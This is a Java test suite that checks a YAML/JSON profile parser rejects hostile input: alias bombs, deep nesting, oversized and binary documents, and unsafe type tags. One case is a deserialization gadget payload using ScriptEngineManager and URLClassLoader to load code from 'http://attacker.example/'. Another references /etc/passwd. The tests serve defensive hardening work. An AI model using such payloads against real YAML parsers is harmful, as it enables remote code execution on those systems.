package io.profilekit.yaml;

import io.profilekit.ClusterProfile;
import io.profilekit.Layer;
import io.profilekit.RegistryRef;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * A corpus of hostile documents. Each must end in a {@link ProfileParseException} — never a
 * StackOverflowError, an OutOfMemoryError or a Jackson exception — and quickly (the timeout is
 * generous on purpose: it catches runaway parsing, it does not measure speed).
 */
@Timeout(10)
class HostileInputTest {
    private static final ProfileFormat YAML = ProfileDocuments.yaml();
    private static final String HEAD = "apiVersion: profilekit.io/v1\nkind: InfrastructureProfile\nmetadata:\n  name: p\n";

    static String billionLaughs() {
        StringBuilder sb = new StringBuilder(HEAD).append("  description: x\nlol0: &a0 [lol]\n");
        for (int i = 1; i <= 9; i++) {
            sb.append("lol").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                sb.append(j > 0 ? ", " : "").append("*a").append(i - 1);
            }
            sb.append("]\n");
        }
        return sb.append("spec: {layers: []}\n").toString();
    }

    static Stream<Arguments> hostileYaml() {
        return Stream.of(
                Arguments.of("alias bomb (billion laughs)", billionLaughs(), "YAML anchor '&a0' is not allowed"),
                Arguments.of("10,000-deep flow nesting", HEAD + "spec: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n",
                        "nesting is deeper than 100 levels"),
                Arguments.of("10,000-deep block nesting", HEAD + "spec:\n" + "- ".repeat(10_000) + "x\n",
                        "nesting is deeper than 100 levels"),
                Arguments.of("1,000-deep indented nesting", HEAD + deepBlock(1_000), "nesting is deeper than 100 levels"),
                Arguments.of("duplicate keys", HEAD + "spec: {layers: []}\nspec: {layers: []}\n",
                        "duplicate key 'spec' (first at line 5)"),
                Arguments.of("!!java.io.File tag", HEAD + "  description: !!java.io.File /etc/passwd\nspec: {layers: []}\n",
                        "YAML tag '!!java.io.File' is not allowed"),
                Arguments.of("!!javax.script.ScriptEngineManager tag", HEAD
                        + "spec: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://attacker.example/\"]]]]\n",
                        "YAML tag '!!javax.script.ScriptEngineManager' is not allowed"),
                Arguments.of("local tag", HEAD + "spec: !profile {layers: []}\n", "YAML tag '!profile' is not allowed"),
                Arguments.of("binary tag", HEAD + "  description: !!binary aGVsbG8=\nspec: {layers: []}\n",
                        "YAML tag '!!binary' is not allowed"),
                Arguments.of("a 200-digit number", HEAD + "  version: " + "9".repeat(200) + "\nspec: {layers: []}\n",
                        "a number is longer than 100 characters"),
                Arguments.of("NUL characters", HEAD + "  description: a\u0000b\nspec: {layers: []}\n",
                        "not valid YAML: the character U+0000 is not allowed"),
                Arguments.of("tabs as indentation", HEAD + "spec:\n\tlayers: []\n", "not valid YAML"),
                Arguments.of("unterminated flow", HEAD + "spec: {layers: [\n", "not valid YAML"),
                Arguments.of("complex key", HEAD + "? [a, b]\n: c\nspec: {layers: []}\n", "a mapping key must be text, found a list"),
                Arguments.of("merge key", HEAD + "base: &b {layers: []}\nspec:\n  <<: *b\n", "YAML anchor '&b' is not allowed"));
    }

    private static String deepBlock(int depth) {
        StringBuilder sb = new StringBuilder("spec:\n");
        for (int i = 1; i < depth; i++) {
            sb.append(" ".repeat(i)).append("a:\n");
        }
        return sb.toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileYaml")
    void hostileYamlFailsClearly(String why, String text, String problem) {
        assertThatThrownBy(() -> YAML.read(text)).as(why).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).as(why).startsWith(problem));
    }

    @Test
    void aControlCharacterIsReportedWhereItIs() {
        String text = HEAD + "  description: ok\nspec:\n  cloud: a\u0000ws\n  layers: []\n";
        int line = HEAD.split("\n").length + 3;

        assertThatThrownBy(() -> YAML.read(text)).isInstanceOfSatisfying(ProfileParseException.class, e -> {
            assertThat(e.problem()).isEqualTo("not valid YAML: the character U+0000 is not allowed");
            assertThat(e.line()).hasValue(line);
            assertThat(e.column()).hasValue(11);
        });
    }

    @Test
    void anAliasNeverReadsBackAsTheAnchorName() {
        String text = HEAD + "spec:\n  layers:\n"
                + "    - layer: os\n      pack: {name: ubuntu-aws, version: '22.04', registry: &public {name: Public Repo}}\n"
                + "    - layer: k8s\n      pack: {name: kubernetes, version: 1.33.6, registry: *public}\n";

        assertThatThrownBy(() -> YAML.read(text)).isInstanceOfSatisfying(ProfileParseException.class, e -> {
            assertThat(e.problem()).isEqualTo("YAML anchor '&public' is not allowed");
            assertThat(e.hint()).contains("ReadLimits.maxAliases");
            assertThat(e.line()).hasValue(8);
        });

        ClusterProfile p = ProfileDocuments.yaml(ReadLimits.builder().maxAliases(5).build()).read(text);

        assertThat(p.layers()).extracting(l -> l.pack().registry().orElseThrow())
                .containsExactly(RegistryRef.byName("Public Repo"), RegistryRef.byName("Public Repo"));
    }

    @Test
    void anchorsOnSingleValuesAreExpandedWhenAliasesAreAllowed() {
        String text = "apiVersion: profilekit.io/v1\nkind: InfrastructureProfile\n"
                + "metadata:\n  name: &n p\n  description: *n\n  tags: [&t env, *t]\n"
                + "spec: {layers: []}\n";
        String keyAnchor = "apiVersion: profilekit.io/v1\nkind: InfrastructureProfile\n"
                + "metadata:\n  &k name: p\n  description: *k\nspec: {layers: []}\n";
        ProfileFormat allowing = ProfileDocuments.yaml(ReadLimits.builder().maxAliases(10).build());

        ClusterProfile k = allowing.read(keyAnchor);

        assertThat(allowing.read(text).tags().asList()).extracting(Object::toString).containsExactly("env", "env");
        ClusterProfile p = allowing.read(text.replace(", *t]", "]"));
        assertThat(p.name()).isEqualTo("p");
        assertThat(p.description()).isEqualTo("p");
        assertThat(k.description()).isEqualTo("name");
    }

    @Test
    void anchorsOnSingleValuesAreRejectedByDefaultLikeAnchorsOnMappings() {
        String scalar = HEAD + "  description: &d text\nspec: {layers: []}\n";
        String inList = HEAD + "  tags: [&t env:prod]\nspec: {layers: []}\n";
        String onKey = HEAD + "  &k description: text\nspec: {layers: []}\n";

        assertThatThrownBy(() -> YAML.read(scalar)).isInstanceOfSatisfying(ProfileParseException.class, e -> {
            assertThat(e.problem()).isEqualTo("YAML anchor '&d' is not allowed");
            assertThat(e.line()).hasValue(5);
            assertThat(e.path()).isEqualTo("metadata.description");
        });
        assertThatThrownBy(() -> YAML.read(inList)).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).isEqualTo("YAML anchor '&t' is not allowed"));
        assertThatThrownBy(() -> YAML.read(onKey)).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).isEqualTo("YAML anchor '&k' is not allowed"));
    }

    @Test
    void anAliasBombFailsEvenWhenAliasesAreAllowed() {
        ProfileFormat few = ProfileDocuments.yaml(ReadLimits.builder().maxAliases(50).build());
        ProfileFormat many = ProfileDocuments.yaml(ReadLimits.builder().maxAliases(1_000_000).build());

        assertThatThrownBy(() -> few.read(billionLaughs())).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).isEqualTo("more than 50 YAML aliases"));
        assertThatThrownBy(() -> many.read(billionLaughs())).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).startsWith("YAML aliases expand to more than"));
    }

    @Test
    void aFiftyMegabyteDocumentFailsBeforeParsing(@TempDir Path dir) throws Exception {
        int size = 50 * 1024 * 1024;
        StringBuilder sb = new StringBuilder(size + 100).append(HEAD).append("  description: |\n");
        while (sb.length() < size) {
            sb.append("    all work and no play makes a dull profile\n");
        }
        String text = sb.toString();
        Path file = dir.resolve("huge.yaml");
        Files.writeString(file, text);

        for (ProfileFormat format : new ProfileFormat[] {YAML, ProfileDocuments.paletteApiJson(),
            ProfileDocuments.paletteExportJson()}) {
            assertThatThrownBy(() -> format.read(text)).isInstanceOfSatisfying(ProfileParseException.class,
                    e -> assertThat(e.problem()).isEqualTo("the document is larger than 2097152 characters"));
            assertThatThrownBy(() -> format.read(file)).isInstanceOfSatisfying(ProfileParseException.class,
                    e -> assertThat(e.documentName()).isEqualTo(file.toString()));
        }
        assertThatThrownBy(() -> YAML.read(endless())).isInstanceOfSatisfying(ProfileParseException.class,
                e -> assertThat(e.problem()).isEqualTo("the document is larger than 2097152 characters"));
    }

    /** A reader that never ends: the limit, not the input, must stop reading. */
    private static Reader endless() {
        return new Reader() {
            @Override
            public int read(char[] buf, int off, int len) {
                for (int i = 0; i < len; i++) {
                    buf[off + i] = i % 80 == 79 ? '\n' : 'x';
                }
                return len;
            }

            @Override
            public void close() {
            }
        };
    }

    @ParameterizedTest(name = "seed {0}")
    @MethodSource("garbageSeeds")
    void binaryGarbageFailsInEveryFormat(int seed, @TempDir Path dir) throws Exception {
        byte[] bytes = new byte[1 + new Random(seed).nextInt(4096)];
        new Random(seed).nextBytes(bytes);
        Path file = dir.resolve("garbage.bin");
        Files.write(file, bytes);
        String latin1 = new String(bytes, StandardCharsets.ISO_8859_1);

        for (ProfileFormat format : new ProfileFormat[] {YAML, ProfileDocuments.paletteApiJson(),
            ProfileDocuments.paletteExportJson()}) {
            assertThatThrownBy(() -> format.read(latin1)).as("seed %d, %s", seed, format.name())
                    .isInstanceOf(ProfileParseException.class);
            assertThatThrownBy(() -> format.read(file)).as("seed %d, %s", seed, format.name())
                    .isInstanceOf(ProfileParseException.class);
        }
    }

    static IntStream garbageSeeds() {
        return IntStream.range(0, 50);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "{\"metadata\": {\"name\": \"a\", \"name\": \"b\"}, \"spec\": {\"template\": {}}}",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "{\"metadata\": {\"name\": \"a\"}, \"spec\": {\"version\": 1",
        "{\"metadata\": {\"name\": \"a\"}, \"spec\": {\"template\": {\"packs\": 7}}}",
        "{\"metadata\": {\"name\": \"a\"}, \"spec\": {\"version\": 99999999999999999999999999999999999999999999999999999999"
                + "99999999999999999999999999999999999999999999999999999999999999, \"template\": {}}}",
        "// comment\n{}",
        "{\"metadata\": {\"name\": \"a\"}, \"spec\": {\"template\": {}}} {\"metadata\": {\"name\": \"b\"}}",
        "\"just text\"",
    })
    void hostileJsonFailsClearly(String text) {
        for (ProfileFormat format : new ProfileFormat[] {ProfileDocuments.paletteApiJson(),
            ProfileDocuments.paletteExportJson()}) {
            assertThatThrownBy(() -> format.read(text)).as(format.name()).isInstanceOf(ProfileParseException.class);
        }
    }

    @Test
    void deepJsonFailsOnTheDepthLimit() {
        String text = "{\"metadata\": " + "[".repeat(10_000) + "]".repeat(10_000) + "}";

        assertThatThrownBy(() -> ProfileDocuments.paletteApiJson().read(text))
                .isInstanceOfSatisfying(ProfileParseException.class,
                        e -> assertThat(e.problem()).isEqualTo("nesting is deeper than 100 levels"));
    }

    @Test
    void valuesThatAreNotYamlReadAsTextForTheValidatorToReport() {
        String text = HEAD + "spec:\n  layers:\n    - layer: k8s\n      pack: {name: kubernetes, version: 1.33.6}\n"
                + "      values: |\n        pack:\n          podCIDR: [unclosed\n        charts: {a: 1, a: 2}\n";

        Layer k8s = YAML.read(text).layers().get(0);

        assertThat(k8s.values()).isEqualTo("pack:\n  podCIDR: [unclosed\ncharts: {a: 1, a: 2}\n");
    }
}
